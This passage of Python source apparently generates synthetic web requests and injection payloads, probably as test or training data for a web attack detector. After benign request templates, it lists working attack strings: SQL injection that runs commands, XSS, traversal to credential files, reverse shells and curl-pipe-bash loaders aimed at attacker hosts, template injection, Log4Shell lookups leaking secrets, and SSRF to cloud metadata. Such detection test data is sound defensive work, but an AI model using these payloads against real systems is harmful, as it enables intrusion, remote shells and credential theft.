                                                          lambda r: {"authenticity_token": _b64url(r, 86), "username": r.choice(USERS), "password": _password(r), "remember_me": r.choice(("0", "1"))})),
    # --- forum: XenForo and NodeBB
    Template("unseen-injections.forum.thread", "forum", "page", _page(lambda r: f"/threads/{r.choice(TOPICS)}.{r.randint(100, 999999)}/{r.choice(('', 'page-' + str(r.randint(2, 40))))}")),
    Template("unseen-injections.forum.node", "forum", "page", _page(lambda r: f"/forums/{r.choice(TAGS)}.{r.randint(2, 90)}/?order={r.choice(('last_post_date', 'reply_count', 'first_post_date'))}&direction=desc")),
    Template("unseen-injections.forum.topic", "forum", "page", _page(lambda r: f"/topic/{r.randint(1, 99999)}/{r.choice(TOPICS)}/{r.randint(1, 60)}")),
    Template("unseen-injections.forum.search", "forum", "search", _page(lambda r: f"/search/{r.randint(1, 9999999)}/?q={_q(_query(r, 0.5), r)}&t=post&o={r.choice(('relevance', 'date'))}", "search")),
    Template("unseen-injections.forum.feed", "forum", "feed", lambda r: Endpoint("GET", r.choice(("/forums/-/index.rss", f"/forums/{r.choice(TAGS)}.{r.randint(2, 90)}/index.rss",
                                                                                     f"/topic/{r.randint(1, 99999)}.rss", f"/category/{r.randint(1, 40)}.rss")), "feed")),
    Template("unseen-injections.forum.latest", "forum", "xhr", lambda r: _xhr(f"/threads/{r.choice(TOPICS)}.{r.randint(100, 999999)}/latest?_xfResponseType=json&_xfWithData=1&_xfToken={quote(_xf_token(r), safe='')}")),
    Template("unseen-injections.forum.react", "forum", "xhr_post", lambda r: Endpoint("POST", f"/posts/{(pid := r.randint(100, 9999999))}/react?reaction_id={r.randint(1, 6)}", "xhr", "xhr_post",
                                                                          urlencode({"_xfToken": _xf_token(r), "_xfRequestUri": f"/threads/{r.choice(TOPICS)}.{r.randint(100, 999999)}/post-{pid}",
                                                                                     "_xfWithData": "1", "_xfResponseType": "json"}), "application/x-www-form-urlencoded")),
    Template("unseen-injections.forum.post_edit", "forum", "xhr_post", _rest("PUT", lambda r: f"/api/v3/posts/{r.randint(1, 999999)}", lambda r: {"content": pick(r, FORUM_TEXT)})),
    Template("unseen-injections.forum.add_reply", "forum", "form", _form(lambda r: f"/threads/{r.choice(TOPICS)}.{r.randint(100, 999999)}/add-reply",
                                                             lambda r: {"message_html": paragraph(r, FORUM_TEXT), "attachment_hash": _hex(r, 32),
                                                                        "last_date": str(1_700_000_000 + r.randint(0, 10**8)), "_xfToken": _xf_token(r)})),
    Template("unseen-injections.forum.login", "forum", "login", _form(lambda r: "/login/login", lambda r: {"login": _email(r) if r.random() < 0.4 else r.choice(USERS), "password": _password(r),
                                                                                              "remember": "1", "_xfRedirect": "https://forum.example.net/", "_xfToken": ""})),
    # --- blog: Substack, Ghost's members and content APIs, WordPress's comment form, Blogger's feeds
    Template("unseen-injections.blog.post", "blog", "page", _page(lambda r: f"/p/{r.choice(TOPICS)}{r.choice(('', '/comments', '?utm_source=substack&utm_medium=email'))}")),
    Template("unseen-injections.blog.archive", "blog", "page", _page(lambda r: f"/archive?sort={r.choice(('new', 'top', 'discussions'))}")),
    Template("unseen-injections.blog.search", "blog", "search", _page(lambda r: f"/archive?search={_q(_query(r), r)}&sort={r.choice(('new', 'top'))}", "search")),
    Template("unseen-injections.blog.feed", "blog", "feed", lambda r: Endpoint("GET", r.choice(("/rss/", "/comments/feed/", "/feed/podcast/", "/feeds/posts/default?alt=rss",
                                                                                   f"/{r.randint(2019, 2026)}/{r.randint(1, 12):02d}/{r.choice(TOPICS)}/feed/")), "feed")),
    Template("unseen-injections.blog.content_api", "blog", "xhr", lambda r: _xhr(r.choice((
        f"/ghost/api/content/posts/?key={_hex(r, 26)}&limit={r.choice(('all', '10000', '15'))}&fields=id,slug,title,excerpt,url,updated_at,visibility&order=updated_at%20desc",
        f"/members/api/comments/counts/?ids={_hex(r, 24)},{_hex(r, 24)}")))),
    Template("unseen-injections.blog.comment", "blog", "xhr_post", _rest("POST", lambda r: "/members/api/comments/",
                                                             lambda r: {"comments": [{"post_id": _hex(r, 24), "status": "published", "html": paragraph(r, r.choice((FORUM_TEXT, REVIEW_TEXT)))}]})),
    Template("unseen-injections.blog.reaction", "blog", "xhr_post", _rest("POST", lambda r: f"/api/v1/post/{r.randint(10**6, 10**8)}/reaction", lambda r: {"reaction": "\u2764"})),
    Template("unseen-injections.blog.wp_comment", "blog", "form", _form(lambda r: "/wp-comments-post.php",
                                                            lambda r: {"comment": pick(r, r.choice((FORUM_TEXT, REVIEW_TEXT))), "author": r.choice(USERS).title(), "email": _email(r), "url": "",
                                                                       "submit": "Post Comment", "comment_post_ID": str(r.randint(1, 9000)), "comment_parent": r.choice(("0", "0", str(r.randint(1, 9000))))})),
    Template("unseen-injections.blog.login", "blog", "login", lambda r: _BLOG_PASSWORD(r) if r.random() < 0.6 else _BLOG_MAGIC_LINK(r)),
    # --- docs: rustdoc, Read the Docs (subprojects, search API, downloads)
    Template("unseen-injections.docs.rustdoc", "docs", "page", _page(lambda r: f"/{(repo := r.choice(REPOS))}/{r.choice(('latest', _version(r)))}/{repo.replace('-', '_')}/{r.choice(('struct', 'enum', 'trait', 'fn', 'macro'))}.{r.choice(WORDS).title()}{r.choice(NOUNS).title()}.html")),
    Template("unseen-injections.docs.subproject", "docs", "page", _page(lambda r: f"/projects/{r.choice(REPOS)}/en/{r.choice(('latest', 'stable', _version(r)))}/{r.choice(SECTIONS)}/{r.choice(PAGES)}.html")),
    Template("unseen-injections.docs.search", "docs", "search", _page(lambda r: f"/{r.choice(('2.x', '3.x', 'next', 'dev'))}/search/?q={_q(_query(r, 0.5), r)}", "search")),
    Template("unseen-injections.docs.search_api", "docs", "xhr", lambda r: _xhr(f"/_/api/v3/search/?q={quote_plus('project:' + r.choice(REPOS) + ' ' + _query(r, 0.5))}&page={r.randint(1, 3)}")),
    Template("unseen-injections.docs.pdf", "docs", "download", lambda r: Endpoint("GET", f"/_/downloads/en/{r.choice(('latest', 'stable', _version(r)))}/{r.choice(('pdf', 'epub', 'htmlzip'))}/", "download")),
    Template("unseen-injections.docs.rating", "docs", "form", _json("POST", lambda r: "/api/page-rating",
                                                        lambda r: {"page": f"/{r.choice(SECTIONS)}/{r.choice(PAGES)}/", "rating": r.randint(1, 5), "comment": pick(r, FORUM_TEXT) if r.random() < 0.4 else ""}, "form")),
    # --- API: JSON:API, OData, SCIM, persisted GraphQL, JSON-RPC
    Template("unseen-injections.api.jsonapi", "api", "api", lambda r: Endpoint("GET", f"/jsonapi/node/{r.choice(('article', 'page', 'event'))}?filter[status]=1&page[limit]={r.choice((10, 25, 50))}&sort=-created&include={r.choice(('uid', 'field_image', 'field_tags'))}", "api")),
    Template("unseen-injections.api.odata", "api", "api", lambda r: Endpoint("GET", f"/odata/v4/{r.choice(('Orders', 'Customers', 'Invoices'))}?$filter={_odata_filter(r)}&$top={r.choice((20, 50, 100))}&$orderby=CreatedAt%20desc&$select=Id,Name,Total", "api")),
    Template("unseen-injections.api.scim_users", "api", "api", lambda r: Endpoint("GET", f"/scim/v2/Users?filter={quote('userName eq ' + chr(34) + _email(r) + chr(34), safe='')}&startIndex=1&count=100", "api")),
    Template("unseen-injections.api.scim_patch", "api", "api", lambda r: Endpoint("PATCH", f"/scim/v2/Users/{_uuid(r)}", "api", "xhr_post",
                                                                      _compact({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"],
                                                                                "Operations": [{"op": "replace", "path": r.choice(("active", "title", "displayName")), "value": r.choice((False, True, r.choice(USERS).title()))}]}),
                                                                      "application/scim+json")),
    Template("unseen-injections.api.graphql_get", "api", "api", lambda r: Endpoint("GET", "/api/graphql?" + _apq(r, r.choice(("GetOrder", "ListInvoices", "Viewer")), {"id": str(r.randint(1, 10**6)), "first": r.choice((10, 25))}), "api")),
    Template("unseen-injections.api.jsonrpc", "api", "api", _json("POST", lambda r: "/rpc", lambda r: {"jsonrpc": "2.0", "method": r.choice(("orders.list", "customers.get", "invoices.search")),
                                                                                            "params": {"limit": r.choice((10, 50)), "cursor": _b64url(r, 16)}, "id": r.randint(1, 9999)}, "api")),
    Template("unseen-injections.api.catalog_search", "api", "api", lambda r: Endpoint("GET", f"/v4/catalog/search?query={_q(_query(r), r)}&facets=brand,color&limit=24", "api")),
    Template("unseen-injections.api.webhook_delete", "api", "api", lambda r: Endpoint("DELETE", f"/v4/webhook-endpoints/we_{_b62(r, 24)}", "api")),
    # --- shared by every site
    Template("unseen-injections.asset.vite", "*", "asset", lambda r: (Endpoint("GET", f"/build/assets/{r.choice(('app', 'vendor', 'Dashboard'))}-{_b64url(r, 8)}.js", "asset", "script") if r.random() < 0.6
                                                          else Endpoint("GET", f"/build/assets/app-{_b64url(r, 8)}.css", "asset", "style"))),
    Template("unseen-injections.asset.next_image", "*", "asset", _asset(lambda r: f"/_next/image?url=%2F{r.choice(('uploads', 'images', 'media'))}%2F{_slug(r)}.{r.choice(('jpg', 'png', 'webp'))}&w={r.choice((384, 640, 828, 1080, 1920))}&q=75", "image")),
    Template("unseen-injections.asset.font", "*", "asset", _asset(lambda r: f"/assets/fonts/{(fam := r.choice(('open-sans', 'merriweather', 'ibm-plex-sans')))}/{fam}-v{r.randint(18, 40)}-latin-{r.choice(('regular', '600', '700', 'italic'))}.woff2", "font")),
    Template("unseen-injections.generic.workspace", "*", "page", _page(lambda r: f"/workspace/{_uuid(r)}/{r.choice(('board', 'list', 'calendar', 'timeline'))}")),
    Template("unseen-injections.generic.release", "*", "download", lambda r: Endpoint("GET", f"/releases/{(repo := r.choice(REPOS))}/{(ver := _version(r))}/{repo}_{ver}_{r.choice(('linux', 'darwin', 'windows'))}_{r.choice(('amd64', 'arm64'))}.{r.choice(('tar.gz', 'zip'))}", "download")),
    Template("unseen-injections.generic.firstfactor", "*", "login", _json("POST", lambda r: "/api/firstfactor",
                                                              lambda r: {"username": r.choice(USERS), "password": _password(r), "keepMeLoggedIn": r.random() < 0.5,
                                                                         "targetURL": f"https://{r.choice(tuple(HOSTS.values()))}/", "requestMethod": "GET"}, "form")),
    Template("unseen-injections.generic.allauth", "*", "login", _form(lambda r: "/accounts/login/", lambda r: {"csrfmiddlewaretoken": _b62(r, 64), "login": _email(r) if r.random() < 0.6 else r.choice(USERS),
                                                                                                  "password": _password(r), **({"remember": "on"} if r.random() < 0.5 else {})})),
    Template("unseen-injections.generic.atom", "*", "feed", lambda r: Endpoint("GET", f"/feeds/{r.choice(TAGS)}.atom", "feed")),
    Template("unseen-injections.generic.flags", "*", "xhr", lambda r: _xhr(f"/api/feature-flags?client=web&v={r.randint(1, 400)}&user_hash={_hex(r, 16)}")),
    # an analytics beacon as sendBeacon() sends a string: JSON in a text/plain body
    Template("unseen-injections.generic.beacon", "*", "xhr_post", lambda r: Endpoint("POST", "/api/event", "xhr", "xhr_post",
                                                                         _compact({"n": "pageview", "u": f"https://{(host := r.choice(tuple(HOSTS.values())))}/{_slug(r)}", "d": host,
                                                                                   "r": r.choice((None, "https://www.google.com/", "https://news.ycombinator.com/")), "w": r.choice((390, 1280, 1440, 1920))}),
                                                                         "text/plain;charset=UTF-8")),
)

# ---------------------------------------------------------------------------- payloads



def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SVG_ONLOAD = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>')
_SVG_USE = _b64('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(1)"/></svg>')
_HTML_SCRIPT = _b64("<script>alert(origin)</script>")
_PS_WHOAMI = base64.b64encode("whoami".encode("utf-16-le")).decode()
_BSLASH = "\\"


def _file3(rng: random.Random) -> str:
    return rng.choice(("etc/krb5.keytab", "var/lib/postgresql/data/pg_hba.conf", "etc/kubernetes/admin.conf", "etc/gitlab/gitlab-secrets.json",
                       "var/lib/jenkins/secrets/master.key", "etc/wireguard/wg0.conf", "root/.config/rclone/rclone.conf", "proc/self/maps",
                       "var/www/html/wp-config.php", "home/ubuntu/.docker/config.json"))


def _seps(rng: random.Random, k: int) -> str:
    """``k`` parent-directory hops, each spelled with its own mix of slash and backslash."""
    return "".join(rng.choice((".." + _BSLASH + "/", "." + _BSLASH + "./", ".." + _BSLASH * 2 + "/", "/.." + _BSLASH, "..//" + _BSLASH)) for _ in range(k))


def _alias(rng: random.Random) -> str:
    """nginx ``location /static { alias /srv/static/; }`` (no trailing slash on the location) serves ``/static../`` from the parent."""
    folder = rng.choice(("static", "assets", "media", "img", "files", "uploads"))
    return f"/{folder}../{rng.choice(('.git/config', '.env', 'config/database.yml', 'app/settings.py', '../etc/passwd', 'settings/local.py'))}"


def _graphql_aliases(rng: random.Random) -> str:
    words = rng.sample(("123456", "password", "qwerty", "letmein", "admin123", "welcome1", "Summer2025!", "iloveyou", "dragon", "monkey"), rng.randint(4, 8))
    user = rng.choice(("admin", "root", "support"))
    return "mutation{" + " ".join(f'a{i}:login(username:"{user}",password:"{w}"){{token}}' for i, w in enumerate(words)) + "}"


def _graphql_abuse(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.3:
        return _graphql_aliases(rng)
    if r < 0.5:
        start = rng.randint(0, 9000)
        return "mutation{" + " ".join(f'c{i}:verifyOtp(code:"{start + i:04d}"){{ok}}' for i in range(rng.randint(5, 12))) + "}"
    if r < 0.7:
        return _compact([{"query": f'mutation{{login(username:"admin",password:"{w}"){{token}}}}'} for w in rng.sample(("123456", "password", "admin", "changeme", "secret"), 3)])
    if r < 0.85:
        k = rng.randint(6, 14)
        return "query{" + "user{friends{" * k + "id" + "}}" * k + "}"
    return "query{__typename" + "@aa" * rng.randint(50, 300) + "}"


# DTDs that ship with common systems and a parameter entity each declares, which an internal subset may redefine
_LOCAL_DTDS = (("usr/share/yelp/dtd/docbookx.dtd", "ISOamso"), ("usr/share/xml/fontconfig/fonts.dtd", "constant"),
               ("C:/Windows/System32/wbem/xml/cim20.dtd", "SuperClass"))


def _local_dtd(rng: random.Random) -> str:
    """Error-based XXE with no outbound fetch: redefine an entity of a DTD already on the server so that its expansion
    reads a file and puts it in the name of a file that does not exist (the parser's error shows it)."""
    dtd, ent = rng.choice(_LOCAL_DTDS)
    target = rng.choice(("etc/passwd", _file3(rng)))
    inner = (f'<!ENTITY &#x25; file SYSTEM "file:///{target}"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM '
             f"&#x27;file:///nonexistent/&#x25;file;&#x27;>\">&#x25;eval;&#x25;error;")
    return (f'<?xml version="1.0"?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///{dtd}"><!ENTITY % {ent} \'{inner}\'>'
            f"%local_dtd;]><message>{number(rng)}</message>")


PRODUCTIONS: tuple[Production, ...] = (
    # SQL: PostgreSQL dollar quotes and COPY ... PROGRAM, MSSQL OLE automation, INSERT contexts, sqlmap's BETWEEN/RLIKE forms, ClickHouse
    Production("unseen-injections.sqli.pg_program", "sqli", lambda r: r.choice((
        f"{number(r)}';COPY (SELECT '') TO PROGRAM '{r.choice(('id', 'curl ' + attacks._host(r), 'nslookup ' + attacks._host(r)))}'--",
        f"{number(r)};CREATE TABLE t{(k := r.randint(1, 999))}(o text);COPY t{k} FROM PROGRAM 'id';SELECT * FROM t{k}--",
        f"{number(r)}' AND 1=CAST((SELECT $${r.choice('abc')}$$||current_setting($$data_directory$$)) AS int)--",
        f"{number(r)}' AND 1=CAST(pg_read_file($$/etc/passwd$$,0,{r.choice((64, 200))}) AS int)--",
        f"{number(r)}'||(SELECT $q$x$q$||pg_ls_dir($q$.$q$) LIMIT 1)||'"))),
    Production("unseen-injections.sqli.mssql_ole", "sqli", lambda r: r.choice((
        f"{number(r)}';DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c {r.choice(('whoami', 'ping ' + attacks._host(r)))}';--",
        f"{number(r)}' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server={attacks._host(r)};uid=sa;pwd=x','SELECT 1')--",
        f"{number(r)}';EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE;--",
        f"{number(r)}' AND 1=(SELECT TOP 1 CAST(name+':'+CONVERT(varchar(max),password_hash,1) AS int) FROM sys.sql_logins)--"))),
    Production("unseen-injections.sqli.insert_context", "sqli", lambda r: r.choice((
        f"{r.choice(WORDS)}', (SELECT password FROM users LIMIT 1))-- -",
        f"{r.choice(WORDS)}','{r.choice(NOUNS)}',(SELECT @@version))#",
        f"{_email(r)}', 1) ON DUPLICATE KEY UPDATE password='{_hex(r, 32)}'-- -",
        f"{r.choice(WORDS)}'), ('{r.choice(('admin', 'root'))}', '{_hex(r, 32)}', 'administrator')-- -",
        f"{r.choice(WORDS)}', (SELECT group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()))-- -")), ("form", "json", "query")),
    Production("unseen-injections.sqli.between_rlike", "sqli", lambda r: r.choice((
        f"{number(r)} AND ORD(MID((SELECT IFNULL(CAST({(c := r.choice(('username', 'email', 'password')))} AS NCHAR),0x20) FROM {r.choice(('app', 'shop', 'wordpress'))}.{r.choice(('users', 'accounts', 'wp_users'))} ORDER BY {c} LIMIT {r.randint(0, 9)},1),{r.randint(1, 32)},1)) NOT BETWEEN 0 AND {r.randint(32, 126)}",
        f"{number(r)} RLIKE (SELECT (CASE WHEN ({(a := r.randint(1000, 9999))}={a}) THEN {number(r)} ELSE 0x28 END))",
        f"{number(r)}' AND {(b := r.randint(1000, 9999))} BETWEEN {b} AND {b}-- {''.join(r.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz') for _ in range(4))}"))),
    Production("unseen-injections.sqli.clickhouse", "sqli", lambda r: r.choice((
        f"{number(r)} UNION ALL SELECT name,engine FROM system.tables--",
        f"{number(r)}' AND 1=(SELECT count() FROM url('http://{attacks._host(r)}/x','CSV','a String'))--",
        f"{number(r)}' UNION ALL SELECT * FROM file('/etc/passwd','LineAsString')--",
        f"{number(r)} AND sleepEachRow({r.choice((1, 2, 3))})=0",
        f"{number(r)}' UNION ALL SELECT user,query FROM system.query_log LIMIT {r.randint(1, 20)}--"))),
    # XSS: recent HTML events, srcdoc and data documents, meta/base hijacks, client-side framework directives
    Production("unseen-injections.xss.new_events", "xss", lambda r: r.choice((
        f"<div popover id=p{(k := r.randint(1, 99))} onbeforetoggle={attacks._jsfn(r)}>x</div><button popovertarget=p{k}>open</button>",
        f'<x id=x tabindex=1 style="transition:outline 1s" ontransitionend={attacks._jsfn(r)}></x>',
        f"<div style=overflow:auto;height:40px onscrollend={attacks._jsfn(r)}>{'<br>' * r.randint(8, 20)}</div>",
        f"<dialog open onclose={attacks._jsfn(r)}><form method=dialog><button>x</button></form></dialog>",
        f"<input type=search onsearch={attacks._jsfn(r)} autofocus>",
        f"<video controls src=x onvolumechange={attacks._jsfn(r)}></video>"))),
    Production("unseen-injections.xss.srcdoc", "xss", lambda r: r.choice((
        f'<iframe srcdoc="&lt;img src=x onerror={attacks._jsfn(r)}&gt;"></iframe>',
        f"<iframe srcdoc='<script>parent.{r.choice(('alert(document.domain)', 'print()', 'eval(atob(`YWxlcnQoMSk=`))'))}</script>'></iframe>",
        f'<object data="data:text/html;base64,{_HTML_SCRIPT}"></object>',
        f'<embed src="data:image/svg+xml;base64,{_SVG_ONLOAD}">',
        f'<svg><use href="data:image/svg+xml;base64,{_SVG_USE}#x"/></svg>'))),
    Production("unseen-injections.xss.meta_base", "xss", lambda r: r.choice((
        f'<base href="//{attacks._host(r)}/">',
        f'<meta http-equiv="refresh" content="0;url=javascript:{attacks._jsfn(r)}">',
        f'<meta http-equiv=refresh content="0; url=data:text/html;base64,{_HTML_SCRIPT}">',
        f'<form><button formaction="javascript:{attacks._jsfn(r)}">Continue</button></form>',
        f"<svg><a><animate attributeName=href values=javascript:{attacks._jsfn(r)} /><text x=20 y=20>Click</text></a></svg>"))),
    Production("unseen-injections.xss.directives", "xss", lambda r: r.choice((
        f'<div x-data x-init="{r.choice(("alert(1)", "alert(document.cookie)", "fetch(`//" + attacks._host(r) + "/?c=`+document.cookie)"))}"></div>',
        f'<div hx-get="//{attacks._host(r)}/x" hx-trigger="load" hx-swap="outerHTML"></div>',
        "{{_c.constructor('alert(1)')()}}",
        "{{$el.ownerDocument.defaultView.alert(document.domain)}}",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'></div>"))),
    # traversal: mixed separators per hop, three-byte overlong dots, PHP path truncation, nginx alias off-by-slash, per-hop encodings
    Production("unseen-injections.trav.mixed_separators", "traversal", lambda r: _seps(r, r.randint(3, 8)) + _file3(r)),
    Production("unseen-injections.trav.overlong3", "traversal", lambda r: "%e0%80%ae%e0%80%ae%e0%80%af" * r.randint(3, 8) + r.choice((_file3(r), "etc/passwd")), ("query", "path")),
    Production("unseen-injections.trav.truncation", "traversal", lambda r: r.choice((
        f"{'../' * r.randint(3, 8)}{r.choice(('etc/passwd', _file3(r)))}{'/.' * r.randint(120, 600)}",
        f"{'..' + _BSLASH}{('..' + _BSLASH) * r.randint(2, 6)}boot.ini{'.' * r.randint(50, 300)}",
        f"{'../' * r.randint(3, 8)}{_file3(r)}{'./' * r.randint(100, 400)}"))),
    Production("unseen-injections.trav.alias", "traversal", _alias, ("path", "query")),
    Production("unseen-injections.trav.per_hop", "traversal", lambda r: "".join(r.choice(("../", "..%2F", "%2e%2e/", "%2E%2E%2f", "..%2f")) for _ in range(r.randint(3, 9))) + _file3(r)),
    # commands: cmd.exe caret and variable tricks, more reverse shells, fileless loaders, commands without spaces or names
    Production("unseen-injections.cmdi.cmd_obfuscation", "cmdi", lambda r: r.choice((
        "&c^m^d /c who^am^i", "|set a=who&&set b=ami&&call %a%%b%",
        f"&for /f %i in ('whoami') do nslookup %i.{attacks._host(r)}",
        f'&powershell -nop -c "IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(\'{_PS_WHOAMI}\')))"',
        '|%COMSPEC% /c "ty^pe C:\\Windows\\win.ini"', '&cmd /v:on /c "set x=whoami&&!x!"'))),
    Production("unseen-injections.cmdi.reverse_shells", "cmdi", lambda r: attacks._inject(r, r.choice((
        f"busybox nc {attacks._host(r)} 4444 -e sh", f"ncat --ssl {attacks._host(r)} 443 -e /bin/bash",
        f"zsh -c 'zmodload zsh/net/tcp && ztcp {attacks._host(r)} 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        f"php -r '$s=fsockopen(\"{attacks._host(r)}\",443);exec(\"sh <&3 >&3 2>&3\");'",
        f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {attacks._host(r)}:443 > /tmp/s; rm /tmp/s",
        f"telnet {(h := attacks._host(r))} 443 | /bin/sh | telnet {h} 444")))),
    Production("unseen-injections.cmdi.fileless", "cmdi", lambda r: attacks._inject(r, r.choice((
        f"curl -fsSL http://{attacks._host(r)}/i.sh | sudo bash -s --",
        f"python3 -c \"import urllib.request as u;exec(u.urlopen('http://{attacks._host(r)}/p').read())\"",
        f"exec 3<>/dev/tcp/{attacks._host(r)}/80;echo -e 'GET /s HTTP/1.0\\r\\n\\r\\n'>&3;cat<&3|sh",
        f"wget -q -O- http://{attacks._host(r)}/k | perl",
        f"cd /dev/shm||cd /tmp;curl -O http://{attacks._host(r)}/x86_64;chmod 755 x86_64;./x86_64 {r.choice(('web', 'exploit', 'x'))}")))),
    Production("unseen-injections.cmdi.no_space", "cmdi", lambda r: r.choice((
        ";cat</etc/passwd", "|cat$u /etc$u/passwd$u", ";$'\\143\\141\\164' /etc/passwd", ";tr 'a-z' 'n-za-m'<<<'vq'|sh", ";rev<<<'imaohw'|sh",
        ";X=$'cat\\x20/etc/passwd'&&$X", "&&IFS=,;`cat<<<cat,/etc/passwd`"))),
    # templates of other engines: Pebble, Jinjava, FreeMarker's ObjectConstructor and Jython; Nunjucks, Pug, doT; detection polyglots
    Production("unseen-injections.ssti.jvm", "other", lambda r: r.choice((
        "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
        "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{{ rt.methods[6].invoke(null,null).exec('id') }}",
        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"java.lang.Runtime.getRuntime().exec('id')\")}}",
        '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}',
        '<#assign value="freemarker.template.utility.JythonRuntime"?new()><@value>import os;os.system("id")</@value>'))),
    Production("unseen-injections.ssti.node", "other", lambda r: r.choice((
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
        "{{= global.process.mainModule.require('child_process').execSync('id') }}",
        "${{<%[%'\"}}%\\.",
        '{{define "T1"}}ONE{{end}}{{template "T1"}}'))),
    # LDAP against Active Directory: bit-mask matching rules, LAPS and SPN attributes, nested-group rule
    Production("unseen-injections.ldap.active_directory", "other", lambda r: r.choice((
        "*)(userAccountControl:1.2.840.113556.1.4.803:=2)(cn=*", "*)(&(objectCategory=person)(adminCount=1)",
        f"{r.choice(USERS)}*)(ms-Mcs-AdmPwd=*", "*)(servicePrincipalName=*)(|(cn=*", "admin)(!(description=x)",
        "*)(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,DC=corp,DC=local"))),
    # XXE by repurposing a DTD already on the server (error-based, no outbound fetch)
    Production("unseen-injections.xxe.local_dtd", "other", lambda r: _local_dtd(r), ("xml",)),
    # Log4Shell: the localhost#host bypass and lookups that leak data into the DNS name or path
    Production("unseen-injections.jndi.lookups", "other", lambda r: r.choice((
        f"${{jndi:ldap://127.0.0.1#{attacks._host(r)}:1389/a}}", f"${{jndi:ldap://${{hostName}}.{attacks._host(r)}/a}}", f"${{jndi:ldap://{attacks._host(r)}/${{java:version}}}}",
        f"${{jndi:dns://${{docker:containerId}}.{attacks._host(r)}/}}", f"${{jndi:ldap://${{bundle:application:spring.datasource.password}}.{attacks._host(r)}/x}}",
        f"${{jndi:ldap://${{ctx:loginId}}.{attacks._host(r)}/u}}", f"${{jndi:ldap://{attacks._host(r)}/${{env:AWS_SECRET_ACCESS_KEY}}}}"))),
    # SSRF through URL-parser disagreements and octal or mapped spellings of the metadata address
    Production("unseen-injections.ssrf.parser_confusion", "other", lambda r: r.choice((
        f"http://{attacks._host(r)}@169.254.169.254/latest/meta-data/", "http://169.254.169.254\\@example.com/", "http://example.com#@127.0.0.1:8080/admin",
        "http://0251.0376.0251.0376/latest/meta-data/", "http://127.0.0.1:80\\@example.com/", "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/",
        "http://169.254.169.254%2f@example.com/", "https://127.0.0.1:10250/pods", "http://169.254.169.254/openstack/latest/meta_data.json"))),
    # CRLF written as the UTF-8 of U+560A/U+560D (servers that truncate to Latin-1 keep CR and LF) and IIS %u escapes
    Production("unseen-injections.crlf.unicode", "other", lambda r: f"{r.choice(('', '/', 'x', '%23'))}{r.choice(('%E5%98%8A%E5%98%8D', '%E5%98%8D%E5%98%8A', '%u000d%u000a'))}"
                                                     f"{r.choice(('Set-Cookie:%20sid=' + _hex(r, 16), 'Location:%20//' + attacks._host(r), 'Content-Type:%20text/html%E5%98%8A%E5%98%8D%E5%98%8A%E5%98%8D<svg%20onload=alert(1)>'))}", ("query", "path")),
    # ---- families no other side has
    # XPath injection: predicates and unions that bypass a lookup, and blind extraction with XPath functions
    Production("unseen-injections.xpath.bypass", "other", lambda r: r.choice((
        "' or name()='username' or 'x'='y", "')] | //user/*[contains(*,'", "x' or count(/*)=1 or 'a'='b", "' or //user[position()=1]/username/text()!='' or '",
        '"] | //* | //*["', "1 or 1=1]|//*|//*[1=1", f"{r.choice(USERS)}' or contains(//user[1]/role,'admin') or 'a'='b"))),
    Production("unseen-injections.xpath.blind", "other", lambda r: r.choice((
        f"{r.choice(USERS)}' and string-length(//user[{r.randint(1, 9)}]/password)={r.randint(4, 20)} and '1'='1",
        f"' or substring(//user[position()={r.randint(1, 9)}]/child::node()[position()=2],{r.randint(1, 16)},1)='{r.choice('abcdefghijklmnopqrstuvwxyz0123456789')}' or ''='",
        f"{r.choice(USERS)}' and starts-with(name(/*[1]),'{r.choice('abcdefghijklmnopqrstuvwxyz')}') and 'a'='a",
        f"' or count(//user[contains(password,'{r.choice('abcdefghijklmnopqrstuvwxyz0123456789')}')])>0 or 'a'='b",
        f"' and string-to-codepoints(substring(//user[1]/password,{r.randint(1, 16)},1))>{r.randint(48, 122)} and ''='"))),
    # Edge Side Includes: a cache or CDN that parses ESI fetches, reflects cookies, or adds headers
    Production("unseen-injections.esi.include", "other", lambda r: r.choice((
        f'<esi:include src="http://{attacks._host(r)}/x"/>', '<esi:include src="/server-status"/>', f'x<esi:include src="http://{attacks._host(r)}/?c=$(HTTP_COOKIE)"/>y',
        "<esi:vars>$(HTTP_COOKIE{'PHPSESSID'})</esi:vars>", f"<!--esi $add_header('Location','http://{attacks._host(r)}/') -->",
        '<esi:include src="http://localhost:8080/admin" alt="http://127.0.0.1/" onerror="continue"/>', "<esi:debug/>",
        f'<esi:include src="http://{(h := attacks._host(r))}/x.xml" dca="xslt" stylesheet="http://{h}/x.xsl"/>'))),
    # Server-side includes: a page that is parsed for SSI directives runs commands and reads files
    Production("unseen-injections.ssi.directive", "other", lambda r: r.choice((
        '<!--#exec cmd="id" -->', f'<!--#exec cmd="{r.choice(("uname -a", "cat /etc/passwd", "wget http://" + attacks._host(r) + "/s -O /tmp/s"))}" -->',
